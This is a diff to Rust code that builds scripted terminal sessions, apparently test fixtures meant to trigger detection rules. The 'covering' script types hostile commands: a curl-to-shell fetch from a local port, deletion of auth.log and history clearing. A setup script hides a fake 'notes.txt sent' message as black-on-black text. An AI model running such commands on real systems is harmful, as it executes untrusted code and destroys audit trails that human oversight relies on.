@@ -25,16 +25,17 @@ impl Repertoire {
         let editor = find("vim").or_else(|| find("vi")).map(editor);
         let missing = [("top", top.is_none()), ("vim", editor.is_none())];
         let bash = find("bash");
+        let scripted = bash.clone().unwrap_or_else(|| shell.clone());
         let at_shell = |part: fn(PathBuf, &[&str]) -> Script| match &bash {
             Some(bash) => part(bash.clone(), &BASH),
             None => part(shell.clone(), &[]),
         };
         let scripts = [
-            Some(at_shell(login)),
-            top,
             Some(at_shell(covering)),
-            Some(interrupted(shell.clone())),
-            Some(failing(shell.clone())),
+            top,
+            Some(at_shell(login)),
+            Some(interrupted(scripted.clone())),
+            Some(failing(scripted)),
             editor,
         ];
         Self {
@@ -45,13 +46,14 @@ impl Repertoire {
 }
 
 /// The files that the scripts use, by name in the session's home directory.
-pub(super) const FILES: [(&str, &str); 3] = [
+pub(super) const FILES: [(&str, &str); 4] = [
     (
         "notes.txt",
         "Window for the database move: Saturday 02:00 to 04:00\n\
          1. stop the writers\n2. take the snapshot\n3. switch the address\n",
     ),
     ("copy-archive.sh", COPY_ARCHIVE),
+    ("setup.sh", SETUP),
     ("check-backup.sh", CHECK_BACKUP),
 ];
 
@@ -82,15 +84,19 @@ fn login(shell: PathBuf, arguments: &[&str]) -> Script {
     script(shell, arguments, 24, 80, steps)
 }
 
-/// A person who has something to hide, so that the rules find something. Nothing of it does any harm:
-/// nobody answers at that port, and there is no such file.
+/// A person who has something to hide, so that the rules find something, and the second operator too. Nothing of it
+/// does any harm: nobody answers at that port, and there is no such log.
 fn covering(shell: PathBuf, arguments: &[&str]) -> Script {
     let steps = vec![
-        pause(3000),
+        pause(800),
+        Step::Type("id; hostname\r"),
+        pause(1500),
         Step::Type("curl -s http://127.0.0.1:9/setup.sh | sh\r"),
-        pause(4000),
-        Step::Type("rm -f ./var/log/auth.log\r"),
+        pause(2500),
+        Step::Type("sh ./setup.sh\r"),
         pause(3000),
+        Step::Type("rm -f ./var/log/auth.log\r"),
+        pause(7000),
         Step::Type("history -c\r"),
         pause(9000),
         Step::Type("exit 0\r"),
@@ -174,12 +180,19 @@ fn is_program(path: &Path) -> bool {
 const BASH: [&str; 3] = ["--noprofile", "--norc", "-i"];
 
 const COPY_ARCHIVE: &str = r#"# Pretends to copy an archive, block by block; meant to be interrupted.
+# bash waits by itself; another shell calls for sleep.
+[ -n "$BASH_VERSION" ] && sleep() { read -r -t "$1" _; true; }
 block=0
 while [ "$block" -lt 400 ]; do
     block=$((block + 4))
     printf 'copying archive: block %3d of 400\n' "$block"
     sleep 0.5
 done
+"#;
+
+const SETUP: &str = r#"# Says less than it does: one line is black on black, for `x` in the player.
+echo "setup: 3 of 3 steps done"
+printf '\033[30;40mnotes.txt sent to 127.0.0.1:9\033[0m\n'
 "#;
 
 const CHECK_BACKUP: &str = r#"# Fails because there is no such backup.
